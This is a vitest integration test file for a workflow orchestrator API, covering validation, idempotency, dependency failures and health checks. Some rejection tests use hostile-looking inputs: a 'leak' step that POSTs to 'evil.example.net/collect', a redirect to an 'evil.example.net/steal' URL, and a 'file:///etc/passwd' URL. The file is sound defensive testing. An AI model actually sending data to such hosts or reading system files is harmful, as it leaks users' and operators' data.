// POST /workflows/execute and GET /workflows/runs/:id against the real app (src/app.ts) on port 0:
// a real gRPC stand-in for the model-router, a real HTTP external API and a real hub recorder, all
// on 127.0.0.1. The in-memory run store is the app's embedded default.
import { randomUUID } from 'node:crypto';
import { status as GrpcStatus } from '@grpc/grpc-js';
import { WorkflowProgressEvent, type WorkflowRun } from '@mcp/contracts';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { freePort } from '@mcp/test-kit';
import { startExternalApi, startHubRecorder, type HubRecorder, type TestServer } from './support/http-fixtures';
import { standInAnswer, startModelRouterStandIn, type ModelRouterStandIn } from './support/model-router.stand-in';
import { startOrchestrator, type Orchestrator, type OrchestratorOptions } from './support/orchestrator.harness';

let router: ModelRouterStandIn;
let api: TestServer;
let hub: HubRecorder;
const started: Orchestrator[] = [];

beforeAll(async () => {
  [router, api, hub] = await Promise.all([startModelRouterStandIn(), startExternalApi(), startHubRecorder()]);
});
afterAll(async () => {
  await Promise.all([router?.close(), api?.close(), hub?.close()]);
});
beforeEach(() => {
  router.setBehaviour({});
  router.calls.length = 0;
  api.requests.length = 0;
  hub.requests.length = 0;
  hub.mode = 'accept';
});
afterEach(async () => {
  await Promise.all(started.splice(0).map((o) => o.close()));
});

async function orchestrator(options: OrchestratorOptions = {}): Promise<Orchestrator> {
  const o = await startOrchestrator({
    ...options,
    env: {
      MODEL_ROUTER_ADDRESS: router.address,
      EXTERNAL_API_ALLOWLIST: api.host,
      COLLABORATION_HUB_URL: hub.url,
      HUB_EVENT_TIMEOUT_MS: '500',
      ...options.env,
    },
  });
  started.push(o);
  return o;
}

const modelStep = (fields: Record<string, unknown> = {}) => ({ type: 'model_inference', name: 'draft', model_type: 'stub-small', prompt_template: 'Write about {topic}', ...fields });

describe('a three-step workflow', () => {
  it('runs model_inference → data_processing → external_api in order, each step seeing the data merged so far', async () => {
    const o = await orchestrator();
    const sessionId = `session-${randomUUID()}`;
    const { status, body: run } = await o.execute({
      workflow_type: 'article',
      session_id: sessionId,
      input_data: { topic: 'otters', audience: 'kids' },
      steps: [
        modelStep({ prompt_template: 'Write about {topic} for {audience}; keep {unknown} as is', output_key: 'draft' }),
        { type: 'data_processing', name: 'shout', operation: 'uppercase', input_key: 'draft', output_key: 'loud' },
        { type: 'external_api', name: 'publish', url: `${api.url}/echo`, method: 'POST', output_key: 'published' },
      ],
    });

    expect(status).toBe(200);
    const prompt = 'Write about otters for kids; keep {unknown} as is';
    const draft = standInAnswer('stub-small', prompt);
    expect(router.calls).toEqual([{ model_type: 'stub-small', prompt, user_id: '' }]);
    const afterTwoSteps = { topic: 'otters', audience: 'kids', draft, tokens_used: expect.any(Number), model_type: 'stub-small', loud: draft.toUpperCase() };
    // The external API got the data of the first two steps, as JSON.
    expect(api.requests).toHaveLength(1);
    expect(api.requests[0]).toMatchObject({ method: 'POST', path: '/echo', headers: { 'content-type': 'application/json' } });
    expect(JSON.parse(api.requests[0]?.body ?? '')).toEqual(afterTwoSteps);

    expect(run).toMatchObject({
      // 128 random bits, base64url: the capability to read the run.
      run_id: expect.stringMatching(/^[A-Za-z0-9_-]{22}$/),
      progress_id: expect.stringMatching(/^[0-9a-f]{16}$/),
      workflow_type: 'article',
      session_id: sessionId,
      status: 'completed',
      completed_steps: 3,
      total_duration_ms: expect.any(Number),
      input_data: { topic: 'otters', audience: 'kids' },
      steps: [
        { name: 'draft', type: 'model_inference', index: 0, status: 'completed', duration_ms: expect.any(Number), output: { draft, tokens_used: expect.any(Number), model_type: 'stub-small' } },
        { name: 'shout', type: 'data_processing', index: 1, status: 'completed', output: { loud: draft.toUpperCase() } },
        { name: 'publish', type: 'external_api', index: 2, status: 'completed', output: { published: { received: afterTwoSteps } } },
      ],
      output: { ...afterTwoSteps, published: { received: afterTwoSteps } },
    });
    expect(run.error).toBeUndefined();

    // Stored as returned.
    expect(await o.getRun(run.run_id)).toEqual({ status: 200, body: run });

    // Progress went to the hub in order, with the shared secret, each a valid WorkflowProgressEvent.
    const events = hub.events();
    expect(hub.requests.every((r) => r.path === `/internal/sessions/${sessionId}/events` && r.headers['x-internal-secret'] === 'test-secret')).toBe(true);
    expect(events.map((e) => WorkflowProgressEvent.parse(e))).toMatchObject([
      { type: 'run.started', progress_id: run.progress_id, status: 'running', completed_steps: 0, total_steps: 3 },
      { type: 'step.completed', step: { name: 'draft', type: 'model_inference', index: 0 }, completed_steps: 1 },
      { type: 'step.completed', step: { name: 'shout', type: 'data_processing', index: 1 }, completed_steps: 2 },
      { type: 'step.completed', step: { name: 'publish', type: 'external_api', index: 2 }, completed_steps: 3 },
      { type: 'run.finished', status: 'completed', completed_steps: 3, total_steps: 3 },
    ]);

    // The hub (and so the session's room) gets the public progress_id, never the run's id.
    expect(JSON.stringify(hub.requests)).not.toContain(run.run_id);

    // Logs name runs (by progress_id, not by their read capability) and steps, never the data.
    const logText = JSON.stringify(o.logs());
    expect(logText).toContain(run.progress_id);
    expect(logText).not.toContain(run.run_id);
    expect(logText).not.toMatch(/otters|OTTERS/);
  });

  it('lets a later step overwrite keys of earlier ones, and sends no events without a session', async () => {
    const o = await orchestrator();
    const { body: run } = await o.execute({
      workflow_type: 'rewrite',
      input_data: { topic: 'bees' },
      steps: [modelStep({ name: 'one' }), modelStep({ name: 'two', model_type: 'stub-large', prompt_template: 'Again: {response}' })],
    });
    expect(run.status).toBe('completed');
    const first = standInAnswer('stub-small', 'Write about bees');
    expect(run.output).toMatchObject({ response: standInAnswer('stub-large', `Again: ${first}`), model_type: 'stub-large' });
    expect(hub.requests).toHaveLength(0);
  });
});

describe('data_processing operations through the API', () => {
  it('runs each operation with its default output key, chained over the merged data', async () => {
    const o = await orchestrator();
    const step = (name: string, fields: Record<string, unknown>) => ({ type: 'data_processing', name, ...fields });
    const { status, body: run } = await o.execute({
      workflow_type: 'text-tools',
      input_data: { text: '  Alpha beta. Beta gamma!  Delta beta?  ', name: 'Ada' },
      steps: [
        step('trim', { operation: 'trim', output_key: 'text' }),
        step('upper', { operation: 'uppercase' }),
        step('lower', { operation: 'lowercase', input_key: 'processed_text', output_key: 'lower' }),
        step('words', { operation: 'word_count' }),
        step('chars', { operation: 'char_count' }),
        step('keywords', { operation: 'extract_keywords', limit: 2 }),
        step('summary', { operation: 'summarize', limit: 2 }),
        step('greeting', { operation: 'template', template: 'Hi {name}: {summary} ({word_count} words, {missing})', output_key: 'greeting' }),
        step('pick', { operation: 'pick', keys: ['word_count', 'keywords', 'absent'] }),
      ],
    });
    expect(status).toBe(200);
    expect(run.status).toBe('completed');
    expect(run.output).toEqual({
      text: 'Alpha beta. Beta gamma!  Delta beta?',
      name: 'Ada',
      processed_text: 'ALPHA BETA. BETA GAMMA!  DELTA BETA?',
      lower: 'alpha beta. beta gamma!  delta beta?',
      word_count: 6,
      char_count: 36,
      keywords: ['beta', 'alpha'],
      summary: 'Alpha beta. Beta gamma!',
      greeting: 'Hi Ada: Alpha beta. Beta gamma! (6 words, {missing})',
      picked: { word_count: 6, keywords: ['beta', 'alpha'] },
    });
  });

  it('fails the step (and the run) with a clear error when the input key holds no text', async () => {
    const o = await orchestrator();
    const { status, body: run } = await o.execute({ workflow_type: 'bad-input', input_data: { n: 5 }, steps: [{ type: 'data_processing', name: 'count', operation: 'word_count', input_key: 'n' }] });
    expect(status).toBe(200);
    expect(run).toMatchObject({ status: 'failed', steps: [{ status: 'failed', error: 'input key "n" holds a number, operation word_count needs a string' }] });
  });
});

describe('validation: 4xx naming the problem, nothing stored, nothing run', () => {
  const valid = { workflow_type: 'v', steps: [modelStep()], input_data: { topic: 't' } };
  const tooMany = { ...valid, steps: Array.from({ length: 21 }, (_, i) => ({ type: 'data_processing', name: `s${i}`, operation: 'trim' })) };

  it.each<[string, number, { body: unknown; headers?: Record<string, string> }, Record<string, unknown>]>([
    ['malformed JSON', 400, { body: '{"workflow_type": "x", ' }, { error: 'invalid request', details: ['body: is not valid JSON'] }],
    ['an empty JSON body', 400, { body: '' }, { error: 'invalid request', details: ['body: must not be empty with Content-Type: application/json'] }],
    ['a JSON array', 400, { body: '[1,2]' }, { error: 'invalid request', details: ['Invalid input: expected object, received array'] }],
    ['text/plain', 415, { body: 'run it', headers: { 'content-type': 'text/plain' } }, { error: expect.stringContaining('Content-Type: application/json') }],
    ['form data', 415, { body: 'a=1', headers: { 'content-type': 'application/x-www-form-urlencoded' } }, { error: expect.stringContaining('unsupported media type') }],
    ['missing fields', 400, { body: {} }, { details: ['workflow_type: Invalid input: expected string, received undefined', 'steps: Invalid input: expected array, received undefined'] }],
    ['no steps', 400, { body: { ...valid, steps: [] } }, { details: ['steps: must have at least one step'] }],
    ['too many steps', 400, { body: tooMany }, { details: ['steps: must have at most 20 steps'] }],
    ['an unknown step type', 400, { body: { ...valid, steps: [{ type: 'shell', name: 'x' }] } }, { details: [expect.stringMatching(/^steps\.0\.type: /)] }],
    ['a step without its required field', 400, { body: { ...valid, steps: [{ type: 'data_processing', name: 'x', operation: 'template' }] } }, { details: ['steps.0.template: is required for operation template'] }],
    ['an unknown operation', 400, { body: { ...valid, steps: [{ type: 'data_processing', name: 'x', operation: 'rot13' }] } }, { details: [expect.stringMatching(/^steps\.0\.operation: /)] }],
    ['an empty model_type', 400, { body: { ...valid, steps: [modelStep({ model_type: '' })] } }, { details: ['steps.0.model_type: must not be empty'] }],
    ['a non-http URL', 400, { body: { ...valid, steps: [{ type: 'external_api', name: 'x', url: 'file:///etc/passwd' }] } }, { details: ['steps.0.url: must be an http or https URL'] }],
    ['an unknown field', 400, { body: { ...valid, priority: 'high' } }, { details: ['Unrecognized key: "priority"'] }],
    ['an Idempotency-Key with a space', 400, { body: valid, headers: { 'idempotency-key': 'has space' } }, { details: [expect.stringMatching(/^Idempotency-Key header: must be one value of 1-128 visible ASCII characters/)] }],
    ['an Idempotency-Key over 128 characters', 400, { body: valid, headers: { 'idempotency-key': 'k'.repeat(129) } }, { details: [expect.stringMatching(/^Idempotency-Key header: /)] }],
    ['a body over the limit', 413, { body: { ...valid, input_data: { big: 'x'.repeat(300 * 1024) } } }, { error: 'request body too large: at most 262144 bytes' }],
  ])('%s → %i', async (_case, status, request, expected) => {
    const o = await orchestrator();
    const response = await o.execute(request.body, request.headers);
    expect(response.status).toBe(status);
    expect(response.body).toMatchObject(expected);
    expect(o.store.createdRunIds).toEqual([]);
    expect(router.calls).toEqual([]);
    expect(hub.requests).toEqual([]);
  });

  it('answers a POST without any body or content type with 400, and an unknown route with 404 JSON', async () => {
    const o = await orchestrator();
    const bare = await fetch(`${o.url}/workflows/execute`, { method: 'POST' });
    expect(bare.status).toBe(400);
    expect(await bare.json()).toEqual({ error: 'invalid request', details: ['body: required: a JSON object (Content-Type: application/json)'] });
    const unknown = await fetch(`${o.url}/workflows/nope`);
    expect(unknown.status).toBe(404);
    expect(await unknown.json()).toEqual({ error: 'not found: GET /workflows/nope' });
  });
});

describe('EXTERNAL_API_ALLOWLIST', () => {
  it('rejects a workflow with a step to another host with 400 naming the step, before anything is stored or run', async () => {
    const o = await orchestrator();
    const otherPort = await freePort();
    const { status, body } = await o.execute({
      workflow_type: 'exfiltrate',
      session_id: 'watchers',
      input_data: { topic: 'secrets' },
      steps: [
        modelStep(),
        { type: 'external_api', name: 'ok', url: `${api.url}/weather` },
        { type: 'external_api', name: 'leak', url: 'https://evil.example.net/collect', method: 'POST' },
        { type: 'external_api', name: 'other_port', url: `http://127.0.0.1:${otherPort}/x` },
      ],
    });
    expect(status).toBe(400);
    expect(body).toEqual({
      error: 'invalid request',
      details: [
        'steps.2.url: host evil.example.net of step "leak" is not in EXTERNAL_API_ALLOWLIST',
        `steps.3.url: host 127.0.0.1:${otherPort} of step "other_port" is not in EXTERNAL_API_ALLOWLIST`,
      ],
    });
    expect(o.store.createdRunIds).toEqual([]);
    expect(router.calls).toEqual([]);
    expect(api.requests).toEqual([]);
    expect(hub.requests).toEqual([]);
  });

  it('rejects every external_api step when the allowlist is empty', async () => {
    const o = await orchestrator({ env: { EXTERNAL_API_ALLOWLIST: '' } });
    const { status, body } = await o.execute({ workflow_type: 'x', steps: [{ type: 'external_api', name: 'w', url: `${api.url}/weather` }] });
    expect(status).toBe(400);
    expect(body.details).toEqual([`steps.0.url: host ${api.host} of step "w" is not in EXTERNAL_API_ALLOWLIST`]);
  });

  it('follows a redirect to an allow-listed host, and fails the step on one to any other host without calling it', async () => {
    const o = await orchestrator();
    const inside = await o.execute({ workflow_type: 'r', steps: [{ type: 'external_api', name: 'in', url: `${api.url}/redirect-inside` }] });
    expect(inside.body).toMatchObject({ status: 'completed', output: { api_response: { city: 'Oslo', temperature_c: 21 } } });

    const outside = await o.execute({ workflow_type: 'r', steps: [{ type: 'external_api', name: 'out', url: `${api.url}/redirect-outside?to=${encodeURIComponent('http://evil.example.net/steal')}` }] });
    expect(outside.status).toBe(200);
    expect(outside.body).toMatchObject({
      status: 'failed',
      steps: [{ status: 'failed', error: `external API ${api.host} redirected to evil.example.net, which is not in EXTERNAL_API_ALLOWLIST` }],
    });
  });
});

describe('Idempotency-Key', () => {
  const body = { workflow_type: 'once', input_data: { topic: 'idempotence' }, steps: [modelStep()] };

  it('answers a repeated request with the same run instead of running again', async () => {
    const o = await orchestrator();
    const key = `key-${randomUUID()}`;
    const first = await o.execute(body, { 'idempotency-key': key });
    const second = await o.execute(body, { 'idempotency-key': key });
    expect(first.status).toBe(200);
    expect(second.status).toBe(200);
    expect(second.body).toEqual(first.body);
    expect(first.headers.get('idempotent-replayed')).toBeNull();
    expect(second.headers.get('idempotent-replayed')).toBe('true');
    expect(router.calls).toHaveLength(1);
    expect(o.store.createdRunIds).toEqual([first.body.run_id]);

    // Another key is another run.
    const third = await o.execute(body, { 'idempotency-key': `${key}-other` });
    expect(third.body.run_id).not.toBe(first.body.run_id);
    expect(router.calls).toHaveLength(2);
  });

  it('gives concurrent requests with one key one run: the second waits for the first and gets its result', async () => {
    router.setBehaviour({ latencyMs: 300 });
    const o = await orchestrator();
    const key = `key-${randomUUID()}`;
    const responses = await Promise.all([o.execute(body, { 'idempotency-key': key }), o.execute(body, { 'idempotency-key': key }), o.execute(body, { 'idempotency-key': key })]);
    expect(responses.map((r) => r.status)).toEqual([200, 200, 200]);
    expect(new Set(responses.map((r) => r.body.run_id)).size).toBe(1);
    expect(responses.map((r) => r.body.status)).toEqual(['completed', 'completed', 'completed']);
    expect(responses.filter((r) => r.headers.get('idempotent-replayed') === 'true')).toHaveLength(2);
    expect(router.calls).toHaveLength(1);
    expect(o.store.createdRunIds).toHaveLength(1);
  });

  it('rejects a key reused with a different body with 422, running nothing', async () => {
    const o = await orchestrator();
    const key = `key-${randomUUID()}`;
    const first = await o.execute(body, { 'idempotency-key': key });
    const other = await o.execute({ ...body, input_data: { topic: 'something else' } }, { 'idempotency-key': key });
    expect(other.status).toBe(422);
    // Without the first run's id: guessing a key must not hand out the capability to read its run.
    expect(other.body.error).toBe('Idempotency-Key was already used with a different request body');
    expect(JSON.stringify(other.body)).not.toContain(first.body.run_id);
    expect(router.calls).toHaveLength(1);
  });

  it('treats the same body with its keys in another order as the same request', async () => {
    const o = await orchestrator();
    const key = `key-${randomUUID()}`;
    const first = await o.execute(body, { 'idempotency-key': key });
    const reordered = await o.execute({ steps: body.steps, input_data: body.input_data, workflow_type: body.workflow_type }, { 'idempotency-key': key });
    expect(reordered.body.run_id).toBe(first.body.run_id);
  });
});

describe('model-router failures: a failed run with a clear error, in time', () => {
  const body = { workflow_type: 'needs-model', session_id: 'sess-mr', input_data: { topic: 'x' }, steps: [modelStep(), { type: 'data_processing', name: 'after', operation: 'trim' }] };

  /**
   * The run is recorded as failed in every case; the answer is 200 with the run, except for a
   * model-router outage (unavailable: 503, deadline passed: 504), whose error body names the run.
   */
  async function expectFailedRun(o: Orchestrator, error: string, expectedStatus = 200): Promise<WorkflowRun> {
    const { status, body: answer } = await o.execute(body);
    expect(status).toBe(expectedStatus);
    let run = answer;
    if (expectedStatus !== 200) {
      const errorBody = answer as unknown as { error: string; details: string[]; trace_id?: string };
      expect(errorBody.error).toBe(`step "draft" (model_inference) failed: ${error}`);
      const runId = /^run (\S+) is recorded as failed/.exec(errorBody.details[0] ?? '')?.[1];
      expect(runId).toBeDefined();
      run = (await o.getRun(runId as string)).body;
    }
    expect(run).toMatchObject({
      status: 'failed',
      completed_steps: 0,
      error: `step "draft" (model_inference) failed: ${error}`,
      steps: [
        { name: 'draft', status: 'failed', error, duration_ms: expect.any(Number) },
        { name: 'after', status: 'pending' },
      ],
    });
    expect(run.output).toBeUndefined();
    expect((await o.getRun(run.run_id)).body).toEqual(run);
    return run;
  }

  it('down (nothing listening) → "model-router unavailable", later steps not run, hub told', async () => {
    const o = await orchestrator({ env: { MODEL_ROUTER_ADDRESS: `127.0.0.1:${await freePort()}` } });
    const run = await expectFailedRun(o, 'model-router unavailable', 503);
    expect(hub.events().map((e) => WorkflowProgressEvent.parse(e))).toMatchObject([
      { type: 'run.started' },
      { type: 'step.failed', status: 'failed', step: { name: 'draft', index: 0, error: 'model-router unavailable' } },
      { type: 'run.finished', status: 'failed', progress_id: run.progress_id },
    ]);
  });

  it('slower than MODEL_ROUTER_DEADLINE_MS → DEADLINE_EXCEEDED as a failed step, without waiting for the answer', async () => {
    // The stand-in would answer after 30 s; the run must end at the deadline (the test would time out otherwise).
    router.setBehaviour({ latencyMs: 30_000 });
    const o = await orchestrator({ env: { MODEL_ROUTER_DEADLINE_MS: '200' } });
    await expectFailedRun(o, 'model-router did not answer within 200 ms', 504);
  });

  it.each([
    [{ code: GrpcStatus.INVALID_ARGUMENT, details: 'prompt: must not be empty' }, 'model-router rejected the request: prompt: must not be empty', 200],
    [{ code: GrpcStatus.RESOURCE_EXHAUSTED, details: 'busy' }, 'model-router failed: RESOURCE_EXHAUSTED: busy', 200],
    [{ code: GrpcStatus.UNAVAILABLE, details: 'draining' }, 'model-router unavailable', 503],
  ])('answering %j → %s (HTTP %i)', async (failWith, error, status) => {
    router.setBehaviour({ failWith });
    await expectFailedRun(await orchestrator(), error, status);
  });

  it('an unknown model → NOT_FOUND with the router\'s message', async () => {
    const o = await orchestrator();
    const { body: run } = await o.execute({ workflow_type: 'x', steps: [modelStep({ model_type: 'stub-huge' })] });
    expect(run).toMatchObject({ status: 'failed', steps: [{ error: 'model-router: unknown model_type "stub-huge"' }] });
  });
});

describe('external_api failures fail the step, not the request', () => {
  it.each([
    ['a timeout', { url: '/slow?ms=5000', timeout_ms: 200 }, (host: string) => `external API ${host} did not answer within 200 ms`],
    ['an HTTP error', { url: '/fail' }, (host: string) => `external API ${host} answered HTTP 500`],
    ['HTML instead of JSON', { url: '/html' }, (host: string) => `external API ${host} answered a body that is not JSON (content-type text/html)`],
    ['a streamed body over 256 KB', { url: '/big' }, (host: string) => `external API ${host} answered more than 262144 bytes`],
    ['a declared body over 256 KB', { url: '/big-declared' }, (host: string) => `external API ${host} answered more than 262144 bytes`],
  ])('%s', async (_case, step, error) => {
    const o = await orchestrator();
    const { status, body: run } = await o.execute({ workflow_type: 'ext', steps: [{ type: 'external_api', name: 'call', ...step, url: `${api.url}${step.url}` }] });
    expect(status).toBe(200);
    expect(run).toMatchObject({ status: 'failed', steps: [{ status: 'failed', error: error(api.host) }] });
  });

  it('a refused connection names the error code', async () => {
    const port = await freePort();
    const o = await orchestrator({ env: { EXTERNAL_API_ALLOWLIST: `127.0.0.1:${port}` } });
    const { body: run } = await o.execute({ workflow_type: 'ext', steps: [{ type: 'external_api', name: 'call', url: `http://127.0.0.1:${port}/x` }] });
    expect(run.steps[0]).toMatchObject({ status: 'failed', error: `external API request to 127.0.0.1:${port} failed: ECONNREFUSED` });
  });

  it('a GET writes the JSON answer under api_response by default', async () => {
    const o = await orchestrator();
    const { body: run } = await o.execute({ workflow_type: 'ext', steps: [{ type: 'external_api', name: 'weather', url: `${api.url}/weather` }] });
    expect(run).toMatchObject({ status: 'completed', output: { api_response: { city: 'Oslo', temperature_c: 21 } } });
    expect(api.requests[0]).toMatchObject({ method: 'GET', body: '' });
  });
});

describe('the collaboration-hub never fails or holds up a run', () => {
  const body = { workflow_type: 'hubless', session_id: 'sess-hub', input_data: { text: 'a b c' }, steps: [{ type: 'data_processing', name: 'count', operation: 'word_count' }] };

  it('hub down (nothing listening): the run completes, the failure is logged as a warning', async () => {
    const o = await orchestrator({ env: { COLLABORATION_HUB_URL: `http://127.0.0.1:${await freePort()}` } });
    const { status, body: run } = await o.execute(body);
    expect(status).toBe(200);
    expect(run).toMatchObject({ status: 'completed', output: { word_count: 3 } });
    const warnings = o.logs().filter((l) => l['msg'] === 'collaboration-hub unreachable; progress event dropped');
    expect(warnings.length).toBeGreaterThan(0);
    expect(warnings[0]).toMatchObject({ level: 40, progress_id: run.progress_id, reason: 'ECONNREFUSED' });
  });

  it('hub hanging: the run completes (each event gives up after HUB_EVENT_TIMEOUT_MS)', async () => {
    hub.mode = 'hang';
    const o = await orchestrator({ env: { HUB_EVENT_TIMEOUT_MS: '200' } });
    const { status, body: run } = await o.execute(body);
    expect(status).toBe(200);
    expect(run.status).toBe('completed');
  });

  it('hub answering 500: the run completes, the rejection is logged', async () => {
    hub.mode = 'reject';
    const o = await orchestrator();
    const { body: run } = await o.execute(body);
    expect(run.status).toBe('completed');
    await expect.poll(() => o.logs().some((l) => l['msg'] === 'collaboration-hub rejected a progress event' && l['status'] === 500)).toBe(true);
  });
});

describe('run store outage', () => {
  const body = { workflow_type: 'stored', session_id: 'sess-store', input_data: { topic: 'x' }, steps: [modelStep(), modelStep({ name: 'second' })] };

  it('cannot record the run → 503 and no step runs, no event is sent', async () => {
    const o = await orchestrator();
    o.store.down.create = true;
    const { status, body: error } = await o.execute(body);
    expect(status).toBe(503);
    expect(error).toEqual({ error: 'run store unavailable: the run cannot be recorded, try again later' });
    expect(router.calls).toEqual([]);
    expect(hub.requests).toEqual([]);
  });

  it('lost after the first step → 503, and the remaining steps do not run', async () => {
    const o = await orchestrator();
    // The store breaks while the first step is at the model-router.
    router.setBehaviour({
      onRoute: () => {
        o.store.down.updateStep = true;
      },
    });
    const { status } = await o.execute(body);
    expect(status).toBe(503);
    expect(router.calls).toHaveLength(1);
  });

  it('GET /workflows/runs/:id → 503 while the store is down', async () => {
    const o = await orchestrator();
    o.store.down.get = true;
    const { status, body: error } = await o.getRun(randomUUID());
    expect(status).toBe(503);
    expect(error).toMatchObject({ error: expect.stringMatching(/^run store unavailable/) });
  });
});

describe('GET /workflows/runs/:id', () => {
  it('answers 404 JSON for an unknown run', async () => {
    const o = await orchestrator();
    const id = randomUUID();
    expect(await o.getRun(id)).toEqual({ status: 404, body: { error: `run ${id} not found` } });
    // Longer than any run id: Fastify refuses it at the router (414), still as JSON.
    const long = await o.getRun('x'.repeat(500));
    expect(long.status).toBe(414);
    expect(long.body).toMatchObject({ error: expect.any(String) });
  });
});

describe('/health and /ready', () => {
  /** /ready's details: the log lines of the probe (level, dependencies, message). */
  const readinessLogs = (o: Orchestrator) => o.logs().flatMap(({ level, dependencies, msg }) => (dependencies === undefined ? [] : [{ level, dependencies, msg }]));

  it('/health is liveness only; /ready checks the run store and the model-router', async () => {
    const o = await orchestrator();
    const health = await fetch(`${o.url}/health`);
    expect([health.status, await health.json()]).toEqual([200, { status: 'ok' }]);
    const ready = await fetch(`${o.url}/ready`);
    expect([ready.status, await ready.json()]).toEqual([200, { ready: true }]);
    expect(readinessLogs(o)).toEqual([{ level: 30, dependencies: { run_store: 'ok', model_router: 'ok' }, msg: 'ready: every dependency answers' }]);
  });

  it('/ready is 503 when the model-router or the store is down; which one, only in the log', async () => {
    const o = await orchestrator({ env: { MODEL_ROUTER_ADDRESS: `127.0.0.1:${await freePort()}` } });
    o.store.down.ping = true;
    const ready = await fetch(`${o.url}/ready`);
    expect(ready.status).toBe(503);
    expect(await ready.json()).toEqual({ ready: false });
    expect(readinessLogs(o)).toEqual([{ level: 40, dependencies: { run_store: 'error: connect ECONNREFUSED (simulated outage)', model_router: 'error: model-router unavailable' }, msg: 'not ready' }]);
  });

  it('/ready is 503 while draining, /health stays 200', async () => {
    const o = await orchestrator({ draining: () => true });
    const ready = await fetch(`${o.url}/ready`);
    expect(ready.status).toBe(503);
    expect(await ready.json()).toEqual({ ready: false });
    expect(readinessLogs(o)[0]).toMatchObject({ dependencies: { process: 'draining' }, msg: 'not ready' });
    expect((await fetch(`${o.url}/health`)).status).toBe(200);
  });
});
